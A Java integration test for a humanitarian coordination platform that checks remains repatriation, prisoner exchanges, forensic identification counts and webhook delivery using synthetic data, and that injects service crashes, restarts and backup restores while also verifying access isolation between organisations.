package org.homeward.local.launcher;

import com.fasterxml.jackson.databind.JsonNode;
import org.homeward.local.launcher.story.HomewardApi;
import org.homeward.local.launcher.story.SeedStory;
import org.homeward.local.launcher.story.SignedWebhookSubscriber;
import org.homeward.local.launcher.story.StoryPeople;
import org.homeward.local.launcher.story.StoryReport;
import org.apache.kafka.clients.consumer.OffsetAndMetadata;
import org.apache.kafka.common.TopicPartition;
import org.assertj.core.data.Offset;
import org.homeward.local.infra.DatabaseBackup;
import org.homeward.local.infra.KafkaTestClient;
import org.homeward.local.infra.OrganisationMatrix;
import org.homeward.local.infra.ServiceDatabase;
import org.homeward.local.infra.SyntheticRegister;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.openqa.selenium.By;
import org.openqa.selenium.support.ui.Select;

import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The seed story end to end, with the numbers every service must show, and the platform's faults: a webhook
 * receiver down during the story; then, while a 1,200-body handover flows, every service crashing at its
 * commit boundaries (failpoints of the {@code e2e} profile), the broker and the database restarted, and a
 * service killed at random.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class SeedStoryIT {

    private static final String UA = "org-ua-coordination";
    private static final String IDENTIFICATION_GROUP = "identification-service";
    /** Where a service of the e2e profile arms crash points (platform/messaging's FailpointRoute). */
    private static final String FAILPOINTS = "/e2e/failpoints";
    /** Short retries, so that a receiver down for a while gets everything within the test's patience. */
    private static final String RETRY_SCHEDULE = "PT0S,PT2S,PT2S,PT5S,PT5S,PT10S,PT10S,PT20S,PT20S,PT30S";

    static Path root;
    static Path work;
    static Platform platform;
    static HomewardApi api;
    /** The story's agreement, whose resources the organisation matrix probes. */
    static String storyAgreement;

    @BeforeAll
    static void startPlatform() {
        root = Platform.findRepositoryRoot(Path.of(System.getProperty("homeward.root", ".")));
        work = Path.of("target", "e2e-story-" + System.currentTimeMillis()).toAbsolutePath();
        // The e2e profile lets the fault test arm crash points in running services (Failpoints).
        Platform.Settings settings = Platform.Settings.ephemeral(root, work)
                .withOverrides("notification", Map.of("homeward.webhooks.retry-schedule", RETRY_SCHEDULE));
        for (String service : Platform.SERVICES) {
            settings = settings.withOverrides(service, Map.of("quarkus.profile", "prod,e2e"));
        }
        platform = Platform.start(settings);
        api = Demo.api(platform);
    }

    @AfterAll
    static void stopPlatform() {
        if (platform != null) {
            platform.discard();
        }
    }

    @Test
    @Order(1)
    void theSeedStoryShowsTheSameNumbersInEveryServiceAndAReceiverThatWasDownMissesNothing() throws Exception {
        String admin = api.token("e2e-subscriptions", UA, "UA", "subscriber-admin", "coordinator");
        ScheduledExecutorService clock = Executors.newSingleThreadScheduledExecutor();
        try (SignedWebhookSubscriber story = new SignedWebhookSubscriber("story", null);
             SignedWebhookSubscriber down = new SignedWebhookSubscriber("down", null)) {
            JsonNode drill = api.write(201, "notification", "POST", "/api/v1/subscriptions", admin, Map.of("url", down.url(),
                    "eventTypes", List.of("agreement.*", "transfer.*"), "rateLimitPerSecond", 1000));
            down.trust(drill.path("secret").asText());
            down.goDown();
            // Down while the agreement is signed, the prisoners exchanged and the first bodies handed over.
            clock.schedule(down::comeBack, 45, TimeUnit.SECONDS);

            StoryReport report = new SeedStory(api, System.out, root, "e2e").play(story);
            report.print(System.out);
            storyAgreement = report.agreementId();

            // agreement-service: 4,812 of 6,000 bodies one way (80.2%), none the other, the balance flagged.
            StoryReport.Term toUkraine = report.term("REMAINS_REPATRIATION", "RU", "UA", null);
            assertThat(toUkraine.committed()).isEqualTo(6000);
            assertThat(toUkraine.received()).isEqualTo(4812);
            assertThat(toUkraine.percent()).isCloseTo(80.2, Offset.offset(1e-9));
            assertThat(report.term("REMAINS_REPATRIATION", "UA", "RU", null).received()).isZero();
            assertThat(report.balances()).anySatisfy(balance -> {
                assertThat(balance.direction()).isEqualTo("RU→UA");
                assertThat(balance.received()).isEqualTo(4812);
                assertThat(balance.reciprocalReceived()).isZero();
                assertThat(balance.outOfTolerance()).isTrue();
            });
            // "All for all" as numbers: each term's list, counted from the detaining party's records.
            assertThat(report.term("POW_EXCHANGE", "RU", "UA", "AGED_18_TO_25").exchange())
                    .isEqualTo(new StoryReport.Exchange(200, 197, 3, 0, 0, true));
            assertThat(report.term("POW_EXCHANGE", "UA", "RU", "AGED_18_TO_25").exchange())
                    .isEqualTo(new StoryReport.Exchange(120, 118, 2, 0, 0, true));
            assertThat(report.term("POW_EXCHANGE", "RU", "UA", "SERIOUSLY_WOUNDED_OR_SICK").exchange())
                    .isEqualTo(new StoryReport.Exchange(60, 58, 0, 0, 2, false));
            assertThat(report.term("POW_EXCHANGE", "UA", "RU", "SERIOUSLY_WOUNDED_OR_SICK").exchange())
                    .isEqualTo(new StoryReport.Exchange(40, 40, 0, 0, 0, true));
            assertThat(report.term("POW_EXCHANGE", "RU", "UA", "AGED_18_TO_25").received()).isEqualTo(197);
            assertThat(report.term("POW_EXCHANGE", "RU", "UA", "SERIOUSLY_WOUNDED_OR_SICK").received()).isEqualTo(58);

            // transfer-service: the week's receipts in Kyiv time, and how each handover ended.
            // The manifests claimed 4,815 bodies (1,215 and 3 x 1,200); 4,812 arrived.
            assertThat(report.week()).containsExactlyInAnyOrder(
                    new StoryReport.WeekTotal("2025-W24", "RU", "UA", "REMAINS", 4, 4815, 4812),
                    new StoryReport.WeekTotal("2025-W24", "RU", "UA", "PRISONERS", 1, 255, 255),
                    new StoryReport.WeekTotal("2025-W24", "UA", "RU", "PRISONERS", 1, 158, 158));
            assertThat(report.remainsClaimed()).isEqualTo(4815);
            assertThat(report.handoverStates()).containsExactly("PARTIALLY_RECEIVED", "RECEIVED", "RECEIVED", "RECEIVED");

            // identification-service: a case per item that arrived, none twice; one bag split into two persons and one
            // fragment joined to its body, so 4,812 items and 4,812 individuals; twelve identified by dental charts
            // or fingerprints before any DNA, eight by DNA; the prisoners' identity checks.
            assertThat(report.cases()).containsEntry("received", 4812L).containsEntry("individuals", 4812L)
                    .containsEntry("joined", 1L).containsEntry("identified", 20L).containsEntry("withdrawn", 0L);
            assertThat(report.beyondDna()).isEqualTo(new StoryReport.BeyondDna(8, 4, 2, 1));
            assertThat(count("identification", "select count(*) from remains_case where agreement_id = '" + report.agreementId() + "'"))
                    .isEqualTo(4813);
            assertThat(count("identification", "select count(distinct item_id) from remains_case where agreement_id = '"
                    + report.agreementId() + "' and individual = 1")).as("no item has two cases of its own").isEqualTo(4812);
            assertThat(count("identification", "select count(*) from remains_case where agreement_id = '"
                    + report.agreementId() + "' and identification_method in ('ODONTOLOGY', 'FINGERPRINTS')")).isEqualTo(12);
            // The 30 of those who came home whom UA's register had reported captured are found there (two, reported
            // without service number) and confirmed by a coordinator; the others are not in it, as most soldiers are not.
            assertThat(report.prisonerChecks()).isEqualTo(Map.of("MATCHED → CONFIRMED", 28, "PROBABLE → CONFIRMED", 2,
                    "NO_MATCH → DONE", 225));
            // Two brothers missing from one family, only the parents typed: both bodies are linked to the family
            // (each weighed against both sons at one ratio), and neither is named: the wrong son is never told.
            assertThat(report.brothers()).isEqualTo(new StoryReport.Brothers(2, 2, 0));

            // notification-service: every case event reached the subscriber, each once after deduplication, every
            // signature verified by the reference library.
            assertThat(report.webhooks().eventsByType()).containsEntry("identification.case.opened", 4813)
                    .containsEntry("identification.case.joined", 1)
                    .containsEntry("identification.identification.confirmed", 20);
            assertThat(report.webhooks().rejected()).isZero();

            // The receiver that was down got, after it came back, exactly what the other one got of the story.
            assertThat(idsOf(story, report.agreementId())).hasSizeGreaterThan(20);
            await().atMost(Duration.ofMinutes(3)).pollInterval(Duration.ofSeconds(1)).untilAsserted(() ->
                    assertThat(idsOf(down, report.agreementId())).isEqualTo(idsOf(story, report.agreementId())));
            assertThat(down.tally().rejected()).isZero();
            JsonNode deliveries = api.read("notification", "/api/v1/subscriptions/" + drill.path("id").asText()
                    + "/deliveries?size=100", admin).path("items");
            assertThat(deliveries.findValues("attempts")).as("attempts refused while the receiver was down")
                    .anyMatch(attempts -> attempts.asInt() > 1);
            api.send("notification", "DELETE", "/api/v1/subscriptions/" + drill.path("id").asText(), admin, null, null, Map.of());
        } finally {
            clock.shutdownNow();
        }
    }

    @Test
    @Order(2)
    void servicesCrashingAtTheirCommitBoundariesAndKilledAtRandomLoseAndDuplicateNothing() throws Exception {
        String ua = api.token("e2e-ua", UA, "UA", "coordinator");
        String ru = api.token("e2e-ru", "org-ru-coordination", "RU", "coordinator");
        Handover handover = plannedHandover("E2E-FAULTS", "Repatriation under faults", "Ukraine", "Russia",
                "A. Signatory", "Border crossing", 1200, "2025-06-20");
        String id = handover.agreementId();
        String transfer = handover.transferId();
        String base = "/api/v1/transfers/" + transfer;
        assertThat(api.send("transfer", "PUT", base + "/manifest", ru, "text/csv; charset=UTF-8",
                StoryPeople.remainsManifest("FAULT", 1200), Map.of()).status()).isEqualTo(200);

        try (SignedWebhookSubscriber receiver = new SignedWebhookSubscriber("faults", null)) {
            JsonNode subscription = api.write(201, "notification", "POST", "/api/v1/subscriptions",
                    api.token("e2e-subscriptions", UA, "UA", "subscriber-admin", "coordinator"), Map.of("url", receiver.url(),
                            "eventTypes", List.of("identification.case.*"), "rateLimitPerSecond", 1000));
            receiver.trust(subscription.path("secret").asText());

            api.write(200, "transfer", "POST", base + "/dispatch", ru, Map.of("count", 1200, "dispatchedAt", "2025-06-20T07:00:00Z"));
            // The ledger has the dispatch before agreement-service is armed, so that its crash is on the receipt.
            await().atMost(Duration.ofMinutes(1)).until(() -> api.read("agreement", "/api/v1/agreements/" + id + "/fulfilment", ua)
                    .path("terms").get(0).path("dispatched").asLong() == 1200);

            // Each service armed with a crash point inside the flow that is about to start: the relay of the
            // transfer's item records halts between the broker's acknowledgement and marking the rows (the
            // fourth batch from now: the receipt makes seven of 200, and at most one totals report goes before
            // them), each consumer after its database commit, before the offset commit (agreement-service on
            // the receipt's event, the others mid-stream).
            Map<String, String> failpoints = Map.of(
                    "transfer", "relay.after-send=4",
                    "identification", "inbox.after-commit@identification-service.cases=250",
                    "agreement", "inbox.after-commit@agreement-service.fulfilment-ledger=1",
                    "notification", "inbox.after-commit@notification-service.fanout.identification=300");
            failpoints.forEach((service, point) -> assertThat(api.send(service, "POST", FAILPOINTS, null,
                    "text/plain", point, Map.of()).status()).as("armed " + service).isEqualTo(204));

            // An operator's backup of identification-service before the bodies arrive: the consumer group's
            // committed offsets first (they trail the database, never lead it), then the database itself.
            KafkaTestClient kafka = new KafkaTestClient(platform.kafkaBootstrapServers());
            // Every partition of the item topic: one the group has not yet committed in (no handover had landed
            // there) goes back to its start, or the restored service would skip what arrives in it.
            Map<TopicPartition, OffsetAndMetadata> offsetsAtBackup = kafka.positionsToRestore(IDENTIFICATION_GROUP,
                    "homeward.transfer.manifest-items");
            DatabaseBackup backup = DatabaseBackup.take(platform.database("identification"));

            api.write(200, "transfer", "POST", base + "/receipt", ua, Map.of("count", 1200, "receivedAt", "2025-06-20T12:00:00Z"));

            inParallel(failpoints.keySet(), service -> {
                ServiceProcess process = platform.service(service);
                assertThat(process.awaitExit(Duration.ofMinutes(4))).as(service + " reached its failpoint").isTrue();
                assertThat(process.exitValue()).as(service + " halted").isEqualTo(137);
                process.start();
                process.awaitReady(Duration.ofMinutes(2));
            });
            for (String service : failpoints.keySet()) {
                assertThat(Files.readString(platform.service(service).log()))
                        .contains("Failpoint " + failpoints.get(service).split("=")[0] + " reached");
            }

            // The broker restarts while the rest of the handover flows (notification-service has just come back
            // from its crash at its 300th event), then the PostgreSQL server (every service's database at once).
            assertThat(casesOpened(receiver, transfer)).as("webhooks delivered when the broker restarts").isLessThan(1200);
            platform.restartBroker();
            Thread.sleep(3000);
            platform.restartDatabase();

            // And a kill -9 at a random moment while webhooks are being delivered.
            long pause = new Random().nextInt(2000);
            System.out.printf("Killing notification-service %d ms after the database restart%n", pause);
            Thread.sleep(pause);
            assertThat(casesOpened(receiver, transfer)).as("webhooks delivered at the kill").isLessThan(1200);
            ServiceProcess notification = platform.service("notification");
            notification.kill();
            notification.start();
            notification.awaitReady(Duration.ofMinutes(2));

            // Exactly 1,200 everywhere.
            await().atMost(Duration.ofMinutes(4)).pollInterval(Duration.ofSeconds(1)).ignoreExceptions().untilAsserted(() -> {
                assertThat(api.read("identification", "/api/v1/case-statistics?transferId=" + transfer,
                        api.token("e2e-press", "org-press", null, "observer")).path("counts").path("received").asLong())
                        .isEqualTo(1200);
                assertThat(api.read("agreement", "/api/v1/agreements/" + id + "/fulfilment", ua)
                        .path("terms").get(0).path("received").asLong()).isEqualTo(1200);
                assertThat(casesOpened(receiver, transfer)).isEqualTo(1200);
            });
            assertThat(count("identification", "select count(*) from remains_case where transfer_id = '" + transfer + "'"))
                    .isEqualTo(1200);
            assertThat(count("identification", "select count(distinct tag) from remains_case where transfer_id = '"
                    + transfer + "'")).as("no body has two cases").isEqualTo(1200);
            assertThat(count("notification", "select count(*) from delivery d join subscription s on s.id = d.subscription_id"
                    + " where s.url = '" + receiver.url() + "'")).isEqualTo(1200);
            assertThat(receiver.tally().rejected()).isZero();
            // The records applied before the crashes came again and were recognised (counted since the restart).
            assertThat(duplicatesSkipped("identification")).isPositive();
            assertThat(duplicatesSkipped("agreement")).isPositive();

            restoreIdentificationFromTheBackup(backup, offsetsAtBackup, kafka, transfer, receiver);
            api.send("notification", "DELETE", "/api/v1/subscriptions/" + subscription.path("id").asText(),
                    api.token("e2e-subscriptions", UA, "UA", "subscriber-admin", "coordinator"), null, null, Map.of());
        }
    }

    /**
     * The operators' drill for a lost database: identification-service's is restored from the backup taken
     * before the receipt into an empty database, the consumer group rewound to the offsets recorded with the
     * backup, and the service started on it. It applies the handover's records again and ends with the same
     * cases as before, none twice; the case events it writes again carry the ids they had (derived from the
     * records they came from), so notification-service recognises them and the subscriber hears nothing twice.
     */
    private static void restoreIdentificationFromTheBackup(DatabaseBackup backup, Map<TopicPartition, OffsetAndMetadata> offsets,
                                                           KafkaTestClient kafka, String transfer,
                                                           SignedWebhookSubscriber receiver) {
        String handoverCases = "select string_agg(id::text, ',' order by id) from remains_case where transfer_id = '" + transfer + "'";
        String casesBefore = platform.database("identification").queryForString(handoverCases);
        long allCasesBefore = count("identification", "select count(*) from remains_case");
        double notificationDuplicates = duplicatesSkipped("notification");

        ServiceProcess identification = platform.service("identification");
        identification.stop();
        ServiceDatabase restored = platform.restore(backup, "identification-restored");
        assertThat(restored.queryForLong("select count(*) from remains_case where transfer_id = '" + transfer + "'"))
                .as("the backup predates the receipt").isZero();
        assertThat(restored.queryForLong("select count(*) from remains_case")).isEqualTo(allCasesBefore - 1200);
        await().atMost(Duration.ofSeconds(30)).ignoreExceptions()
                .untilAsserted(() -> kafka.resetOffsets(IDENTIFICATION_GROUP, offsets));
        identification.start();
        identification.awaitReady(Duration.ofMinutes(2));

        await().atMost(Duration.ofMinutes(4)).pollInterval(Duration.ofSeconds(1)).untilAsserted(() -> {
            assertThat(restored.queryForString(handoverCases)).isEqualTo(casesBefore);
            assertThat(duplicatesSkipped("notification") - notificationDuplicates)
                    .as("case events written again, recognised by notification-service").isGreaterThanOrEqualTo(1200);
        });
        assertThat(count("identification", "select count(*) from remains_case")).isEqualTo(allCasesBefore);
        assertThat(count("identification", "select count(*) from outbox_event where published_at is null")).isZero();
        assertThat(count("notification", "select count(*) from delivery d join subscription s on s.id = d.subscription_id"
                + " where s.url = '" + receiver.url() + "'")).isEqualTo(1200);
        assertThat(casesOpened(receiver, transfer)).isEqualTo(1200);
        assertThat(receiver.tally().rejected()).isZero();
    }

    @Test
    @Order(3)
    void aReadModelDroppedAndRebuiltFromItsTopicHasTheSameContent() {
        // Everything but updated_at, which says when the row was last written.
        String views = "select count(*) || ' ' || md5(string_agg(concat_ws('/', agreement_id, sequence, reference, title,"
                + " status, state), '|' order by agreement_id)) from agreement_view";
        String scopes = "select count(*) || ' ' || md5(string_agg(concat_ws('/', agreement_id, kind, value), '|'"
                + " order by agreement_id, kind, value)) from agreement_view_scope";
        ServiceDatabase transferDatabase = platform.database("transfer");
        String viewsBefore = transferDatabase.queryForString(views);
        String scopesBefore = transferDatabase.queryForString(scopes);
        assertThat(count("transfer", "select count(*) from agreement_view")).isGreaterThanOrEqualTo(2);

        // The projection is lost (a bad migration, a handler bug): transfers can no longer be scoped.
        assertThat(transferDatabase.execute("delete from agreement_view")).isPositive();
        assertThat(count("transfer", "select count(*) from agreement_view_scope")).isZero();

        String operator = api.token("e2e-operator", "org-homeward-ops", null, "operator");
        HomewardApi.Answer rebuilt = api.send("transfer", "POST", "/api/v1/ops/read-models/"
                + "transfer-service.agreement-read-model/rebuild", operator, null, null, Map.of());
        assertThat(rebuilt.status()).as(rebuilt.body()).isEqualTo(200);
        JsonNode report = rebuilt.json();
        assertThat(report.path("recordsRead").asLong()).isPositive();
        assertThat(report.path("refused").asLong()).isZero();
        assertThat(transferDatabase.queryForString(views)).isEqualTo(viewsBefore);
        assertThat(transferDatabase.queryForString(scopes)).isEqualTo(scopesBefore);
        // notification-service's subscriptions are its own records, not a projection: nothing to rebuild there.
        assertThat(api.read("notification", "/api/v1/ops/read-models", operator)).isEmpty();
    }

    @Test
    @Order(6)
    void noOrganisationOutsideTheAgreementReadsChangesOrDetectsItsResources() throws Exception {
        assertThat(storyAgreement).as("the story was played").isNotNull();
        Map<String, String> fixtures = storyFixtures();
        List<OrganisationMatrix.Caller> callers = List.of(
                caller("coordinator", "org-ua-coordination", "UA", "org-md-coordination", "MD"),
                caller("mediator", "org-tr-mfa", null, "org-ch-fdfa", null),
                caller("intermediary", "org-icrc", null, "org-outside-ngo", null),
                caller("forensic-examiner", "lab-ua-kyiv", "UA", "lab-md-chisinau", "MD"),
                caller("subscriber-admin", "org-ua-coordination", "UA", "org-md-coordination", "MD"));
        Map<String, Map<String, OrganisationMatrix.Rule>> rules = Map.of("agreement", OrganisationRules.AGREEMENT,
                "transfer", OrganisationRules.TRANSFER, "identification", OrganisationRules.IDENTIFICATION,
                "notification", OrganisationRules.NOTIFICATION);
        List<String> violations = new ArrayList<>();
        List<String> validatedFirst = new ArrayList<>();
        int calls = 0;
        for (String service : Platform.SERVICES) {
            OrganisationMatrix matrix = new OrganisationMatrix(URI.create(platform.service(service).baseUrl()),
                    fixtures, callers);
            violations.addAll(matrix.violations(rules.get(service)).stream().map(v -> service + ": " + v).toList());
            matrix.validatedFirst().forEach(operation -> validatedFirst.add(service + ": " + operation));
            calls += matrix.calls();
        }
        System.out.printf("Organisation matrix: %d calls over %d operations; %d writes answered by validation before"
                + " their resource was looked up: %s%n", calls, rules.values().stream().mapToInt(Map::size).sum(),
                validatedFirst.size(), validatedFirst);
        assertThat(violations).as("leaks and disagreements with the organisation rules").isEmpty();
    }

    private OrganisationMatrix.Caller caller(String role, String inside, String insideParty, String outside, String outsideParty) {
        return new OrganisationMatrix.Caller(role, "Bearer " + api.token("matrix-in-" + role, inside, insideParty, role),
                "Bearer " + api.token("matrix-out-" + role, outside, outsideParty, role));
    }

    /**
     * The story's RU-to-UA exchange list for the young: a prisoner RU holds and offers, and UA's request for him
     * with day and month swapped, a probable match waiting for RU.
     */
    private void exchangeListFixtures(Map<String, String> fixtures, String ua) {
        String young = null;
        for (JsonNode term : api.read("agreement", "/api/v1/agreements/" + storyAgreement, ua).path("terms")) {
            if ("POW_EXCHANGE".equals(term.path("kind").asText()) && "RU".equals(term.path("fromParty").asText())
                    && "AGED_18_TO_25".equals(term.path("category").asText())) {
                young = term.path("id").asText();
            }
        }
        assertThat(young).as("the story's RU-to-UA term for the young").isNotNull();
        // Opened by the story already: answered 200 with it.
        String list = api.write(200, "transfer", "POST", "/api/v1/exchange-lists", ua,
                Map.of("agreementId", storyAgreement, "termId", young)).path("id").asText();
        fixtures.put("exchange-lists/{id}", list);
        String ru = api.token("e2e-ru-nib", "org-ru-coordination", "RU", "coordinator");
        String held = api.write(201, "transfer", "POST", "/api/v1/prisoners", ru, Map.of("surname", "Коваленко",
                "firstNames", "Петро", "script", "Cyrl", "language", "uk", "dateOfBirth", "2001-04-05",
                "rank", "Солдат", "partyOfOrigin", "UA", "capturedOn", "2025-01-10", "capturePlace", "Курахове",
                "internmentPlace", "Табір 1")).path("id").asText();
        api.write(200, "transfer", "POST", "/api/v1/exchange-lists/" + list + "/offers", ru,
                Map.of("prisonerIds", List.of(held)));
        JsonNode request = api.write(201, "transfer", "POST", "/api/v1/exchange-lists/" + list + "/requests", ua,
                Map.of("requests", List.of(Map.of("surname", "Kovalenko", "firstNames", "Petro", "script", "Latn",
                        "dateOfBirth", "2001-05-04")))).get(0);
        fixtures.put("entries/{entryId}", request.path("id").asText());
        fixtures.put("match-reviews/{reviewId}", api.read("transfer", "/api/v1/exchange-lists/" + list
                + "/match-reviews", ua).get(0).path("id").asText());
    }

    /**
     * Real resources of the story's agreement and of UA's organisation, one per path parameter: an identified
     * case with its proposal and a revocation proposed, the missing person it was matched to and a family donor, a prisoner check, and
     * made here, a register import, a linkage review, a subscription with a delivery, a prisoner held and an exchange
     * list with a request and a match to review.
     */
    private Map<String, String> storyFixtures() {
        Map<String, String> fixtures = new HashMap<>();
        fixtures.put("agreements/{id}", storyAgreement);
        fixtures.put("agreement-views/{id}", storyAgreement);
        fixtures.put("amendments/{number}", "1");
        ServiceDatabase identification = platform.database("identification");
        String[] identified = identification.queryForString("select k.case_id || ',' || k.person_id || ',' || p.id || ','"
                + " || c.transfer_id from kinship_candidate k join remains_case c on c.id = k.case_id"
                + " join identification_proposal p on p.case_id = c.id where c.agreement_id = '" + storyAgreement + "'"
                + " and c.status = 'IDENTIFIED' order by c.id limit 1").split(",");
        fixtures.put("cases/{id}", identified[0]);
        fixtures.put("kinship-candidates/{candidateId}", identification.queryForString("select id::text from"
                + " kinship_candidate where case_id = '" + identified[0] + "' and person_id = '" + identified[1] + "'"));
        fixtures.put("missing-persons/{id}", identified[1]);
        fixtures.put("children/{childId}", identified[1]);
        fixtures.put("proposals/{proposalId}", identified[2]);
        // A revocation proposed (and left pending) on the identified case by an examiner of its laboratory.
        String laboratory = identification.queryForString("select assigned_organisation from remains_case where id = '"
                + identified[0] + "'");
        fixtures.put("closure-proposals/{proposalId}", api.write(201, "identification", "POST", "/api/v1/cases/"
                        + identified[0] + "/closure-proposals", api.token("e2e-examiner", laboratory, "UA", "forensic-examiner"),
                Map.of("kind", "REVOCATION", "reason", "Organisation matrix fixture")).path("id").asText());
        // The story's split of a bag: a real proposal, of another case than this one (outsiders are refused either way).
        fixtures.put("commingling-proposals/{proposalId}", identification.queryForString("select p.id::text from"
                + " commingling_proposal p join remains_case c on c.id = p.case_id where c.agreement_id = '"
                + storyAgreement + "' and p.kind = 'SPLIT' limit 1"));
        fixtures.put("transfers/{id}", identified[3]);
        fixtures.put("person-surname", URLEncoder.encode(identification.queryForString(
                "select surname from missing_person where id = '" + identified[1] + "'"), StandardCharsets.UTF_8));
        LocalDate today = LocalDate.now(ZoneOffset.UTC);
        fixtures.put("today", today.toString());
        fixtures.put("a-month-ago", today.minusDays(30).toString());
        String donor = identification.queryForString("select id::text from family_donor where person_id = '"
                + identified[1] + "' and donor_name = 'The father'");
        fixtures.put("donors/{id}", donor);
        // Lineage typings of the identified case and its father, so that insiders read them: the case is settled, so
        // its candidates stay as they were (and the local platform loads no lineage database). For the access rules
        // only, the father is also sequenced as a parent on the maternal line: a donor's sex is not recorded.
        String examiner = api.token("e2e-examiner", laboratory, "UA", "forensic-examiner");
        api.write(200, "identification", "PUT", "/api/v1/cases/" + identified[0] + "/y-str-haplotype", examiner,
                Map.of("sampleId", "PM-Y-fixture", "loci", Map.of("DYS19", "14", "DYS385", "11-14")));
        api.write(200, "identification", "PUT", "/api/v1/donors/" + donor + "/y-str-haplotype", examiner,
                Map.of("sampleId", identification.queryForString("select sample_ids->>0 from family_donor where id = '"
                        + donor + "'"), "paternalLine", "FATHER", "loci", Map.of("DYS19", "14", "DYS385", "11-14")));
        api.write(200, "identification", "PUT", "/api/v1/cases/" + identified[0] + "/mtdna-sequence", examiner,
                Map.of("sampleId", "PM-MT-fixture", "range", "16024-16365", "variants", List.of("16189C")));
        api.write(200, "identification", "PUT", "/api/v1/donors/" + donor + "/mtdna-sequence", examiner,
                Map.of("sampleId", identification.queryForString("select sample_ids->>0 from family_donor where id = '"
                        + donor + "'"), "maternalLine", "MOTHER", "range", "16024-16365", "variants", List.of("16189C")));
        // The check the list shows first (latest checked, then by id): 255 came home, more than a page.
        String[] check = identification.queryForString("select id || ',' || transfer_id from prisoner_check"
                + " where agreement_id = '" + storyAgreement + "' and to_party = 'UA' order by checked_at desc, id"
                + " limit 1").split(",");
        fixtures.put("prisoner-checks/{id}", check[0]);
        fixtures.put("prisoner-transfer", check[1]);
        // A prisoner of war held by UA (the inside party), captured from RU.
        // A surname that sorts first among the 1,000 the story recorded: the list's first page holds him.
        fixtures.put("prisoners/{id}", api.write(201, "transfer", "POST", "/api/v1/prisoners",
                api.token("e2e-ua-nib", UA, "UA", "coordinator"), Map.of("surname", "Абакумов", "firstNames", "Иван",
                        "script", "Cyrl", "language", "ru", "dateOfBirth", "2002-04-05", "rank", "Рядовой",
                        "partyOfOrigin", "RU", "capturedOn", "2025-05-01", "capturePlace", "Вовчанськ",
                        "internmentPlace", "Табір 3")).path("id").asText());
        String ua = api.token("e2e-ua", UA, "UA", "coordinator");
        exchangeListFixtures(fixtures, ua);
        String csv = SyntheticRegister.officialCsv("UA", SyntheticRegister.people(2, System.nanoTime()));
        HomewardApi.Answer imported = api.send("identification", "POST", "/api/v1/missing-persons/imports", ua,
                "text/csv; charset=UTF-8", csv, Map.of("Idempotency-Key", "matrix-" + System.nanoTime()));
        assertThat(imported.status()).as(imported.body()).isEqualTo(201);
        fixtures.put("imports/{id}", imported.json().path("id").asText());
        String suffix = Long.toString(System.nanoTime() % 1_000_000, 36);
        api.write(201, "identification", "POST", "/api/v1/missing-persons", ua, Map.of("surname", "Бурлака-" + suffix,
                "firstNames", "Тарас", "script", "Cyrl", "language", "uk", "dateOfBirth", "1991-03-09", "party", "UA",
                "category", "MILITARY", "source", "FAMILY_REPORT", "reportedOn", "2025-06-01"));
        JsonNode probable = api.write(201, "identification", "POST", "/api/v1/missing-persons", ua, Map.of(
                "surname", "Burlaka-" + suffix, "firstNames", "Taras", "script", "Latn", "dateOfBirth", "1991",
                "party", "UA", "category", "MILITARY", "source", "OPEN_SOURCE",
                "sourceAddress", "https://example.org/obituaries/" + suffix, "reportedOn", "2025-06-01"));
        assertThat(probable.path("linkage").asText()).isEqualTo("PROBABLE");
        fixtures.put("reviews/{id}", probable.path("reviewId").asText());

        String admin = api.token("e2e-subscriptions", UA, "UA", "subscriber-admin", "coordinator");
        JsonNode subscription = api.write(201, "notification", "POST", "/api/v1/subscriptions", admin, Map.of(
                "url", "http://127.0.0.1:9/matrix", "eventTypes", List.of("agreement.*")));
        String subscriptionId = subscription.path("id").asText();
        fixtures.put("subscriptions/{id}", subscriptionId);
        api.send("notification", "POST", "/api/v1/subscriptions/" + subscriptionId + "/test", admin, null, null, Map.of());
        await().atMost(Duration.ofSeconds(30)).until(() -> api.read("notification", "/api/v1/subscriptions/"
                + subscriptionId + "/deliveries", admin).path("items").size() > 0);
        fixtures.put("deliveries/{deliveryId}", api.read("notification", "/api/v1/subscriptions/" + subscriptionId
                + "/deliveries", admin).path("items").get(0).path("id").asText());
        return fixtures;
    }

    /**
     * The guides under docs/ run as written (docs/run-guide.sh: every ```bash block in order, a curl answering
     * outside 2xx fails unless the block expects it) against this platform, last, so that what they add does
     * not disturb the story's exact counts above.
     */
    @Test
    @Order(9)
    void everyGuideRunsAsWrittenAgainstThePlatform() throws Exception {
        StringBuilder portMap = new StringBuilder();
        for (int i = 0; i < Platform.SERVICES.size(); i++) {
            portMap.append(8081 + i).append(':').append(platform.service(Platform.SERVICES.get(i)).port()).append(' ');
        }
        List<Path> guides;
        try (var files = Files.list(root.resolve("docs"))) {
            guides = files.filter(file -> file.toString().endsWith(".md")).sorted().toList();
        }
        assertThat(guides).as("the guides under docs/").isNotEmpty();
        List<String> failures = new ArrayList<>();
        for (Path guide : guides) {
            Path log = work.resolve("guide-" + guide.getFileName() + ".log");
            ProcessBuilder run = new ProcessBuilder("bash", "docs/run-guide.sh", "docs/" + guide.getFileName())
                    .directory(root.toFile()).redirectErrorStream(true).redirectOutput(log.toFile());
            run.environment().put("HOMEWARD_PORT_MAP", portMap.toString().trim());
            run.environment().put("HOMEWARD_DATA_DIR", work.toString());
            Process process = run.start();
            boolean finished = process.waitFor(6, TimeUnit.MINUTES);
            if (!finished) {
                process.destroyForcibly();
            }
            if (!finished || process.exitValue() != 0) {
                List<String> lines = Files.readAllLines(log);
                failures.add(guide.getFileName() + (finished ? " failed" : " timed out") + ", last lines of " + log + ":\n"
                        + String.join("\n", lines.subList(Math.max(0, lines.size() - 25), lines.size())));
            }
        }
        assertThat(failures).as("guides whose examples did not run as written").isEmpty();
    }

